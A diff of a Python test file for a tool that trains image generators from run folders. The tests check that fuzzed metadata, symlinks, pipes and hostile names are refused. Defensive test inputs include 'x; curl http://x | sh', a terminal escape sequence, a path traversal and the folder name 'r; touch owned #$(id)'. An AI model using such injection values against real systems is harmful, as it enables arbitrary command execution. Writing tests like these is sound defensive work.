@@ -11,28 +11,24 @@ import shutil
 import threading
 from collections.abc import Callable
 from pathlib import Path
-from typing import Any
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from asyndgan.errors import RunError
-from asyndgan.recipe import Recipe
 from asyndgan.runs import RunFolder
 from asyndgan.runs.train import train
 from spoiling import asked, changes, fuzz, spoiled
 
 
 @pytest.fixture(scope="module")
-def run(
-    tiny: Callable[..., Recipe], phantoms: dict[str, Path], tmp_path_factory: pytest.TempPathFactory
-) -> Path:
+def run(tiny, phantoms, tmp_path_factory):
     recipe = tiny("image.size=32", "training.steps=4", "training.hold_out=0.2")
     return train(recipe, phantoms, tmp_path_factory.mktemp("run") / "run").path
 
 
-COMMANDS = ("report", "generate", "generate of masks", "augment", "complete", "train")
+COMMANDS = ("report", "generate", "generate of masks", "augment", "train")
 
 
 def ask(name: str, run: Path, phantoms: dict[str, Path], out: Path) -> str:
@@ -46,15 +42,12 @@ def ask(name: str, run: Path, phantoms: dict[str, Path], out: Path) -> str:
         ("generate", run, "--out", out / "painted"),
         ("generate", run, "--out", out / "others", "--masks", first),
         ("augment", run, "--site", first, "--out", out / "augmented"),
-        ("complete", run, "--site", first, "--out", out / "completed"),
         ("train", run / "recipe.toml", *resumed),
     )
     return asked(*words[COMMANDS.index(name)])
 
 
-def test_a_run_as_it_was_is_read_by_every_command(
-    run: Path, phantoms: dict[str, Path], tmp_path: Path
-) -> None:
+def test_a_run_as_it_was_is_read_by_every_command(run, phantoms, tmp_path):
     mine = spoiled(run, tmp_path / "copy", "run.json", lambda facts: facts)
     said = [ask(name, mine, phantoms, tmp_path / name) for name in COMMANDS]
     painted = [
@@ -67,8 +60,8 @@ def test_a_run_as_it_was_is_read_by_every_command(
 @settings(fuzz, max_examples=90)
 @given(changes(), st.sampled_from(COMMANDS))
 def test_what_a_stranger_says_of_a_run_is_read_or_refused_by_our_error(
-    run: Path, phantoms: dict[str, Path], tmp_path: Path, change: Callable[[Any], Any], name: str
-) -> None:
+    run, phantoms, tmp_path, change, name
+):
     mine = spoiled(run, tmp_path / "copy", "run.json", change)
     ask(name, mine, phantoms, tmp_path / "out")
 
@@ -76,15 +69,11 @@ def test_what_a_stranger_says_of_a_run_is_read_or_refused_by_our_error(
 @fuzz
 @given(changes(), st.integers(0, 3))
 def test_what_a_stranger_says_of_a_step_is_read_or_refused_by_our_error(
-    run: Path, phantoms: dict[str, Path], tmp_path: Path, change: Callable[[Any], Any], line: int
-) -> None:
+    run, phantoms, tmp_path, change, line
+):
     mine = spoiled(run, tmp_path / "copy", "metrics.jsonl", change, line)
+    shutil.rmtree(mine / "masks")  # what takes time is to paint
     asked("report", mine, "--out", tmp_path / "page.html")
-
-
-def test_a_run_that_names_no_site_and_yet_has_steps_is_reported(run: Path, tmp_path: Path) -> None:
-    mine = spoiled(run, tmp_path / "copy", "run.json", lambda facts: {**facts, "sites": {}})
-    assert "page.html" in asked("report", mine, "--out", tmp_path / "page.html")
 
 
 def within(folder: Path) -> list[Path]:
@@ -93,14 +82,12 @@ def within(folder: Path) -> list[Path]:
     return [path for path in every if path.name != ".held" and path.parts[0] != "tensorboard"]
 
 
-def test_a_run_with_a_link_anywhere_is_refused_and_nothing_behind_it_read(
-    run: Path, phantoms: dict[str, Path], tmp_path: Path
-) -> None:
+def test_a_run_with_a_link_anywhere_is_refused_and_nothing_behind_it_read(run, phantoms, tmp_path):
+    mine, twin = tmp_path / "run", tmp_path / "twin"
+    shutil.copytree(run, twin)
     for path in within(run):
-        mine, twin = tmp_path / "run", tmp_path / "twin"
-        for copied in (mine, twin):
-            shutil.rmtree(copied, ignore_errors=True)
-            shutil.copytree(run, copied)
+        shutil.rmtree(mine, ignore_errors=True)
+        shutil.copytree(run, mine)
         shutil.rmtree(mine / path) if (mine / path).is_dir() else (mine / path).unlink()
         (mine / path).symlink_to(twin / path)
         out = tmp_path / "out"
@@ -113,28 +100,10 @@ def test_a_run_with_a_link_anywhere_is_refused_and_nothing_behind_it_read(
         assert [*out.rglob("*")] == []
 
 
-def test_a_hospitals_own_masks_are_not_painted_as_released_ones(
-    run: Path, phantoms: dict[str, Path], tmp_path: Path
-) -> None:
-    """The receiver can read the folder that a link in the run leads to; its giver cannot."""
-    mine = spoiled(run, tmp_path / "run", "run.json", lambda facts: facts)
-    shutil.rmtree(mine / "masks")
-    (mine / "masks").symlink_to(phantoms["north"])
-    assert "is a link" in asked("generate", mine, "--out", tmp_path / "painted")
-    assert not (tmp_path / "painted").exists()
-
-
-def test_a_run_folder_may_itself_be_reached_by_a_link(run: Path, tmp_path: Path) -> None:
-    (tmp_path / "mine").symlink_to(run)
-    assert "42 synthetic" in asked("generate", tmp_path / "mine", "--out", tmp_path / "painted")
-
-
 @pytest.mark.parametrize(
     "file", ["recipe.toml", "run.json", "metrics.jsonl", "generator.safetensors", "masks"]
 )
-def test_a_run_with_a_pipe_or_a_folder_for_a_file_is_refused_at_once(
-    run: Path, tmp_path: Path, file: str
-) -> None:
+def test_a_run_with_a_pipe_or_a_folder_for_a_file_is_refused_at_once(run, tmp_path, file):
     mine = spoiled(run, tmp_path / "run", "run.json", lambda facts: facts)
     place = mine / file
     if file == "masks":
@@ -162,9 +131,9 @@ HOSTILE_NAMES = ["\x1b]0;owned\x07", "a\u202eb", "x; curl http://x | sh", "../..
 
 @pytest.mark.parametrize("name", HOSTILE_NAMES, ids=ascii)
 def test_a_sites_name_that_is_no_word_is_refused_and_shown_in_printable_letters(
-    run: Path, tmp_path: Path, name: str
-) -> None:
-    def renamed(facts: Any) -> Any:
+    run, tmp_path, name
+):
+    def renamed(facts):
         facts["sites"][name] = facts["sites"].pop("north")
         return facts
 
@@ -176,9 +145,7 @@ def test_a_sites_name_that_is_no_word_is_refused_and_shown_in_printable_letters(
         RunFolder(mine).facts()
 
 
-def test_a_command_on_the_page_is_one_command_whatever_the_folder_is_called(
-    run: Path, tmp_path: Path
-) -> None:
+def test_a_command_on_the_page_is_one_command_whatever_the_folder_is_called(run, tmp_path):
     mine = spoiled(run, tmp_path / "r; touch owned #$(id)", "run.json", lambda facts: facts)
     asked("report", mine, "--out", tmp_path / "page.html")
     page = html.unescape((tmp_path / "page.html").read_text("utf-8"))
